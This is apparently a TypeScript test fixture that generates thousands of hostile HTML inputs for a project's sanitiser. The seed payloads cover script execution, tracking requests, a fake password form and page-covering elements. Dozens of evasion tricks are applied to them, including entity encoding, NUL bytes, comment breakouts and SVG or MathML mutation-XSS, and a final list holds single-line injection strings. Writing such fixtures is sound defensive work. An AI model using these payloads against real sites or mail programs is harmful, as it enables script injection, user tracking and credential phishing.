/**
 * Hostile HTML of our own (abuse-01 to 04): what runs, asks or covers, times the tricks by which filters were passed. Each
 * trick was a hole of some mail program or sanitiser once; none is fitted to ours. Scripts call `alert(1)`, requests go to
 * `url`, and what names elements names them `hostile`.
 */

/** One element each, with quoted attributes, so that the tricks below can be played with it. */
const runs = [
  '<script>alert(1)</script>',
  '<script src="URL/script.js"></script>',
  '<img src="x" onerror="alert(1)">',
  '<svg onload="alert(1)"></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></animate></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)"></set></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pjwvc3ZnPg==#x"></use></svg>',
  '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
  '<svg><image href="x" onerror="alert(1)"></image></svg>',
  '<math><maction actiontype="statusline#URL/" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<iframe onload="alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<applet code="javascript:alert(1)"></applet>',
  '<portal src="javascript:alert(1)"></portal>',
  '<fencedframe src="URL/fenced"></fencedframe>',
  '<frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset>',
  '<body onload="alert(1)" onpageshow="alert(1)">',
  '<body background="javascript:alert(1)">',
  '<details open="" ontoggle="alert(1)"><summary>x</summary></details>',
  '<video src="x" onerror="alert(1)"></video>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src="x" onerror="alert(1)"></audio>',
  '<input autofocus="" onfocus="alert(1)">',
  '<input type="image" src="x" onerror="alert(1)">',
  '<isindex type="image" src="x" onerror="alert(1)">',
  '<select autofocus="" onfocus="alert(1)"><option>x</option></select>',
  '<textarea autofocus="" onfocus="alert(1)"></textarea>',
  '<keygen autofocus="" onfocus="alert(1)">',
  '<button popovertarget="hostile" formaction="javascript:alert(1)">x</button>',
  '<div id="hostile" popover="" onbeforetoggle="alert(1)">x</div>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="x" ping="URL/ping">x</a>',
  '<area href="javascript:alert(1)" shape="default">',
  '<img src="x" usemap="#hostile"><map name="hostile"><area href="javascript:alert(1)" shape="default"></map>',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="set-cookie" content="samtale=1">',
  '<marquee onstart="alert(1)" loop="1">x</marquee>',
  '<style onload="alert(1)"></style>',
  '<p style="animation-name:hostile" onanimationstart="alert(1)">x</p>',
  '<p contenteditable="" autofocus="" onfocus="alert(1)" oninput="alert(1)">x</p>',
  '<p tabindex="1" onclick="alert(1)" onmouseover="alert(1)" onpointerenter="alert(1)" onwheel="alert(1)">x</p>',
  '<p onbeforecopy="alert(1)" onpaste="alert(1)" ondragstart="alert(1)" oncontextmenu="alert(1)">x</p>',
  '<xss autofocus="" tabindex="1" onfocus="alert(1)">x</xss>',
  '<template shadowrootmode="open"><img src="x" onerror="alert(1)"></template>',
  '<event-source src="URL/events">',
  '<layer src="javascript:alert(1)"></layer>',
  '<bgsound src="javascript:alert(1)">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<div datasrc="#hostile" datafld="x" dataformatas="html">x</div>',
  '<xml id="hostile" src="URL/xml"></xml>',
  '<slot onslotchange="alert(1)"><b onfocusin="alert(1)" tabindex="1">x</b></slot>',
]

/** What fetches, tells or lies without a script. */
const asks = [
  '<img src="URL/pixel.gif">',
  '<img srcset="URL/1x.gif 1x, URL/2x.gif 2x" sizes="100vw">',
  '<picture><source srcset="URL/source.webp"><img src="URL/picture.png"></picture>',
  '<img src="//HOST/no-scheme.gif">',
  '<img src="\\\\HOST\\share.gif">',
  '<img src="https:/HOST/one-slash.gif">',
  '<img loading="eager" crossorigin="use-credentials" referrerpolicy="unsafe-url" src="URL/credentials.gif">',
  '<svg><image xlink:href="URL/svg.png" href="URL/svg2.png"></image></svg>',
  '<svg><feImage xlink:href="URL/filter.png"></feImage></svg>',
  '<video src="URL/video.mp4" poster="URL/poster.png" autoplay="" preload="auto"></video>',
  '<audio src="URL/audio.mp3" autoplay="" preload="auto"></audio>',
  '<track src="URL/track.vtt" default="">',
  '<iframe src="URL/frame"></iframe>',
  '<frame src="URL/frame2">',
  '<object data="URL/object"></object>',
  '<object type="text/x-scriptlet" data="URL/scriptlet"></object>',
  '<embed src="URL/embed">',
  '<input type="image" src="URL/input.png">',
  '<link rel="stylesheet" href="URL/sheet.css">',
  '<link rel="prefetch" href="URL/prefetch">',
  '<link rel="preload" as="image" href="URL/preload.png">',
  '<link rel="dns-prefetch" href="URL/">',
  '<link rel="preconnect" href="URL/">',
  '<link rel="icon" href="URL/icon.png">',
  '<link rel="manifest" href="URL/manifest.json">',
  '<meta http-equiv="refresh" content="0;url=URL/refresh">',
  '<meta http-equiv="refresh" content="0,URL/refresh-comma">',
  '<meta http-equiv="Link" content="<URL/link-header.css>; rel=stylesheet">',
  '<meta name="referrer" content="unsafe-url">',
  '<base href="URL/" target="_top">',
  '<body background="URL/body.png">',
  '<table background="URL/table.png"><td background="URL/cell.png">x</td></table>',
  '<form action="URL/form" method="post"><input name="password" type="password"><button>Sign in</button></form>',
  '<form id="hostile" target="_top" action="URL/top"></form><button form="hostile">x</button>',
  "<img src='URL/dangling?",
  '<a target="_top" href="URL/top">x</a>',
  '<script type="speculationrules">{"prefetch":[{"urls":["URL/speculation"]}]}</script>',
  '<portal src="URL/portal"></portal>',
  '<style>@import "URL/import.css";</style>',
  '<style>@import url(URL/import2.css);</style>',
  '<style>@\\69mport "URL/import3.css";</style>',
  '<style>body{background:url(URL/background.png)}</style>',
  '<style>@font-face{font-family:x;src:url(URL/font.woff)}*{font-family:x}</style>',
  '<style>a[href^="h"]{background:url(URL/leak-h)}</style>',
  '<style>a:visited{background:url(URL/visited)}</style>',
  '<style>p::before{content:url(URL/content.png)}</style>',
  '<style>@namespace url(URL/namespace);</style>',
  '<style>*{cursor:url(URL/cursor.cur),auto}</style>',
  '<style>@media screen{*{list-style-image:url(URL/list.png)}}</style>',
  '<style>:root{--x:url(URL/variable.png)}body{background:var(--x)}</style>',
  '<style>body{background:image-set("URL/set.png" 1x)}</style>',
  '<style>@supports (display:block){@import "URL/supports.css";}</style>',
  '<style>@layer x{@import url("URL/layer.css")}</style>',
  '<p style="background:url(URL/inline.png)">x</p>',
  '<p style="background:\\75 rl(URL/escaped.png)">x</p>',
  '<p style="background:u/**/rl(URL/comment.png)">x</p>',
  '<p style="background-image:-webkit-image-set(url(URL/webkit.png) 1x)">x</p>',
  '<p style="background-image:cross-fade(url(URL/fade.png),url(URL/fade2.png),50%)">x</p>',
  '<p style="list-style:url(URL/list-style.png)">x</p>',
  '<p style="content:url(URL/content2.png)">x</p>',
  '<p style="cursor:url(URL/cursor2.cur),auto">x</p>',
  '<p style="mask:url(URL/mask.svg#x);filter:url(URL/filter.svg#x);clip-path:url(URL/clip.svg#x)">x</p>',
  '<p style="border-image:url(URL/border.png) 1;shape-outside:url(URL/shape.png)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(URL/behaviour.htc);-moz-binding:url(URL/binding.xml#x)">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="font-family:\'x;background:url(URL/string.png)\'">x</p>',
  '<p style="color:red;background:url(\'URL/quoted.png\')">x</p>',
  '<p style="color:red}body{background:url(URL/brace.png)}">x</p>',
]

/** What covers the app, hides what is there, or takes the names that a script looks for. */
const covers = [
  '<div style="position:fixed;inset:0;z-index:2147483647;background:red">x</div>',
  '<div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px">x</div>',
  '<div style="position:sticky;top:0;height:100vh">x</div>',
  '<div style="margin-top:-5000px;height:9000px;background:red">x</div>',
  '<div style="transform:translateY(-5000px) scale(99)">x</div>',
  '<div style="translate:0 -5000px;scale:99;rotate:45deg">x</div>',
  '<div style="float:left;width:100000px;height:100000px">x</div>',
  '<div style="opacity:0;pointer-events:auto;inset:0;position:fixed"><a href="https://hostile.example/">x</a></div>',
  '<style>html,body{display:none!important}</style>',
  '<style>*{position:fixed!important;top:0;left:0}</style>',
  '<style>details:not([open]){display:none}summary{display:none}</style>',
  '<dialog open="" style="position:fixed">Sign in again</dialog>',
  '<dialog id="hostile" open="">x</dialog>',
  '<div id="root" class="hostile">x</div>',
  '<form id="hostile" name="hostile"><input name="attributes"><input name="parentNode"><input id="nodeName"></form>',
  '<a id="hostile" name="hostile"></a><a id="hostile" name="toString" href="https://hostile.example/">x</a>',
  '<img id="hostile" name="getElementById"><img name="createElement">',
  '<iframe name="hostile"></iframe><object id="hostile"></object>',
  '<p class="hostile" id="__proto__" name="constructor">x</p>',
  '<div data-thread="" data-pane="" data-place="1" role="dialog" aria-modal="true" class="hostile">x</div>',
  '<div title="\u202egnp.exe" dir="rtl">\u202e\u2066x\u202d</div>',
  '<bdo dir="rtl">https://hostile.example/</bdo>\u202e',
]

type Trick = { because: string; on?: RegExp; play: (html: string) => string }

const attributeValues = (html: string, change: (value: string) => string) =>
  html.replace(/="([^"]*)"/g, (_, value: string) => `="${change(value)}"`)
const eachLetter = (text: string, change: (letter: string, at: number) => string) =>
  text.replace(/[a-z]/gi, (letter, at: number) => change(letter, at))
const tagNames = (html: string, change: (name: string) => string) =>
  html.replace(/<(\/?)([a-z][a-z0-9-]*)/gi, (_, slash: string, name: string) => `<${slash}${change(name)}`)
const attributeNames = (html: string, change: (name: string) => string) =>
  html.replace(/(\s)([a-z:-]+)=/gi, (_, blank: string, name: string) => `${blank}${change(name)}=`)
const mixedCase = (text: string) => eachLetter(text, (letter, at) => (at % 2 ? letter.toUpperCase() : letter))
const hex = (letter: string) => letter.charCodeAt(0).toString(16)

const tricks: Trick[] = [
  { because: 'as it is', play: (html) => html },
  { because: 'mixed case', play: (html) => attributeNames(tagNames(html, mixedCase), mixedCase) },
  { because: 'values in mixed case', on: /script:|expression/, play: (html) => attributeValues(html, mixedCase) },
  { because: 'NUL within the tag', play: (html) => tagNames(html, (name) => `${name.slice(0, 2)}\0${name.slice(2)}`) },
  { because: 'NUL within the attribute', play: (html) => attributeNames(html, (name) => `\0${name}`) },
  { because: 'slash for blank', play: (html) => html.replace(/ ([a-z:-]+=)/gi, '/$1') },
  { because: 'form feed for blank', play: (html) => html.replace(/ ([a-z:-]+=)/gi, '\f$1') },
  { because: 'line break within the tag', play: (html) => html.replace(/ ([a-z:-]+)="/gi, '\r\n$1\n=\t"') },
  {
    because: 'a slash and rubbish before the attribute',
    play: (html) => html.replace(/ ([a-z:-]+=)/gi, ' /"\'x=/ $1'),
  },
  { because: 'unquoted', play: (html) => html.replace(/="([^" >]*)"/g, '=$1') },
  { because: 'backticks', play: (html) => html.replace(/="([^"]*)"/g, '=`$1`') },
  { because: 'single quotes', play: (html) => html.replace(/="([^"']*)"/g, "='$1'") },
  { because: 'never closed', play: (html) => html.replace(/>$/, '') },
  { because: 'closed by the next tag', play: (html) => `${html.replace(/>[^>]*$/, '')}<b>` },
  {
    because: 'tag within a tag',
    play: (html) => tagNames(html, (name) => `${name.slice(0, 1)}<${name}>${name.slice(1)}`),
  },
  { because: 'tag before itself', play: (html) => `<${html}` },
  {
    because: 'decimal entities',
    play: (html) => attributeValues(html, (v) => eachLetter(v, (l) => `&#${l.charCodeAt(0)};`)),
  },
  {
    because: 'hexadecimal entities',
    play: (html) => attributeValues(html, (v) => eachLetter(v, (l) => `&#x${hex(l)};`)),
  },
  {
    because: 'entities without semicolon, with zeros',
    play: (html) => attributeValues(html, (v) => eachLetter(v, (l) => `&#${String(l.charCodeAt(0)).padStart(9, '0')}`)),
  },
  {
    because: 'twice encoded',
    play: (html) => attributeValues(html, (v) => eachLetter(v, (l) => `&amp;#x${hex(l)};`)),
  },
  {
    because: 'named entities',
    play: (html) => attributeValues(html, (v) => v.replaceAll(':', '&colon;').replaceAll('(', '&lpar;')),
  },
  {
    because: 'entities within the scheme',
    on: /script:/,
    play: (html) => html.replaceAll('script:', '&Tab;scr&NewLine;ipt&colon;'),
  },
  {
    because: 'controls before the scheme',
    on: /script:|data:/,
    play: (html) => html.replace(/="(\w+:)/g, '="\u0001\u000b \u00ad\ufeff$1'),
  },
  { because: 'scheme after scheme', on: /script:|data:/, play: (html) => html.replace(/="(\w+:)/g, '="https:$1') },
  {
    because: 'feed and view-source',
    on: /script:|data:/,
    play: (html) => html.replace(/="(\w+:)/g, '="feed:view-source:$1'),
  },
  { because: 'encoded as text', play: (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;') },
  { because: 'full-width brackets', play: (html) => html.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e') },
  { because: 'brackets that lose a byte', play: (html) => html.replaceAll('<', '\u013c').replaceAll('>', '\u013e') },
  { because: 'in a comment that ends early', play: (html) => `<!-->${html}-->` },
  { because: 'in a comment ended by --!>', play: (html) => `<!-- --!>${html}-->` },
  { because: 'in a comment within a comment', play: (html) => `<!--<!--->${html}-->` },
  { because: 'in a conditional comment', play: (html) => `<!--[if gte mso 9]>${html}<![endif]-->` },
  { because: 'behind a conditional comment', play: (html) => `<![if !mso]>${html}<![endif]>` },
  { because: 'in CDATA', play: (html) => `<![CDATA[${html}]]>` },
  { because: 'in CDATA of SVG', play: (html) => `<svg><![CDATA[><${html}]]></svg>` },
  { because: 'behind a processing instruction', play: (html) => `<?xml ><${html} ?>` },
  { because: 'behind a document type', play: (html) => `<!DOCTYPE x [<!ENTITY y "${html}">]>&y;` },
  { because: 'style of SVG', play: (html) => `<svg></p><style><a id="</style>${html}">` },
  {
    because: 'style of MathML',
    play: (html) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${html.replaceAll('"', '&quot;')}">`,
  },
  {
    because: 'annotation of MathML',
    play: (html) => `<math><annotation-xml encoding="text/html"><xmp>${html}</xmp></annotation-xml></math>`,
  },
  {
    because: 'form within a form of MathML',
    play: (html) => `<form><math><mtext></form><form><mglyph><style></math>${html}`,
  },
  { because: 'title of SVG', play: (html) => `<svg><title><style></title>${html}</style></svg>` },
  { because: 'desc of SVG', play: (html) => `<svg><desc><noscript>${html}</noscript></desc></svg>` },
  {
    because: 'noscript with an attribute that ends it',
    play: (html) => `<noscript><p title="</noscript>${html.replaceAll('"', "'")}">`,
  },
  { because: 'noscript', play: (html) => `<noscript>${html}</noscript>` },
  { because: 'template', play: (html) => `<template>${html}</template>` },
  { because: 'template within a select', play: (html) => `<select><template></select>${html}</template>` },
  {
    because: 'textarea ended in an attribute',
    play: (html) => `<textarea><p id="</textarea>${html.replaceAll('"', "'")}">`,
  },
  {
    because: 'title ended in an attribute',
    play: (html) => `<title><a id="</title>${html.replaceAll('"', "'")}"></title>`,
  },
  { because: 'style ended in an attribute', play: (html) => `<style><p id="</style>${html.replaceAll('"', "'")}">` },
  { because: 'xmp', play: (html) => `<xmp><p title="</xmp>${html.replaceAll('"', "'")}">` },
  { because: 'listing and plaintext', play: (html) => `<listing>${html}</listing><plaintext>${html}` },
  { because: 'iframe as text', play: (html) => `<iframe><p title="</iframe>${html.replaceAll('"', "'")}">` },
  { because: 'noembed and noframes', play: (html) => `<noembed>${html}</noembed><noframes>${html}</noframes>` },
  { because: 'select and option', play: (html) => `<select><option><style></option></select>${html}</style>` },
  { because: 'out of a table', play: (html) => `<table><tr>${html}<td>${html}</table>` },
  {
    because: 'an attribute that ends the tag',
    play: (html) => `<p title="${html.replaceAll('"', '&quot;')}" lang='${html.replaceAll("'", '&#39;')}'>x</p>`,
  },
  { because: 'an attribute with a wrong quote', play: (html) => `<img alt="x" ">${html}" title='>` },
  {
    because: 'within a link',
    play: (html) => `<a href="https://hostile.example/?${encodeURIComponent(html)}">${html}</a>`,
  },
  { because: 'deeply nested', play: (html) => `${'<div>'.repeat(300)}${html}${'</div>'.repeat(300)}` },
  { because: 'behind many attributes', play: (html) => `<p ${'a=b '.repeat(300)}>${html}` },
  { because: 'xml prefix', play: (html) => tagNames(html, (name) => `x:${name}`) },
]

export type Hostile = { because: string; html: string }

/** Every seed with every trick that changes it: some thousands. `url`: a server that hopes for requests, without end slash. */
export function hostileHtml(url: string): Hostile[] {
  const seen = new Set<string>()
  const all: Hostile[] = []
  for (const seed of [...runs, ...asks, ...covers]) {
    for (const { because, on, play } of tricks) {
      if (on && !on.test(seed)) continue
      const html = play(seed).replaceAll('URL', url).replaceAll('HOST', new URL(url).host)
      if (!seen.has(html)) all.push({ because: `${seed.slice(0, 60)}: ${because}`, html })
      seen.add(html)
    }
  }
  return all
}

/** What is put into fields that hold one line of text. */
export function hostileLines(url: string): string[] {
  return [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    `<img src=${url}/line.gif onerror=alert(1)>`,
    'javascript:alert(1)',
    '</title><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    '--><script>alert(1)</script>',
    ']]><script>alert(1)</script>',
    '<iframe src="javascript:alert(1)"></iframe>',
    `<style>@import "${url}/line.css"; * { display: none }</style>`,
    `<base href="${url}/"><meta http-equiv=refresh content="0;url=${url}/refresh">`,
    `<form action=${url}/form><input name=attributes><button>Sign in</button></form>`,
    '<a href="javascript:alert(1)" class=hostile id=hostile>x</a>',
    '<template><img src=x onerror=alert(1)></template>',
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
    '{{constructor.constructor("alert(1)")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
    '${alert(1)} #{alert(1)} <%= alert(1) %>',
    '&lt;img src=x onerror=alert(1)&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '%3Cimg src=x onerror=alert(1)%3E',
    '\\x3cimg src=x onerror=alert(1)\\x3e \\u003cscript\\u003e',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '\u202e\u2066<img src=x onerror=alert(1)>gnp.exe',
    '<scr\0ipt>alert(1)</scr\0ipt>',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
    "__proto__ constructor toString '); alert(1); ('",
  ]
}
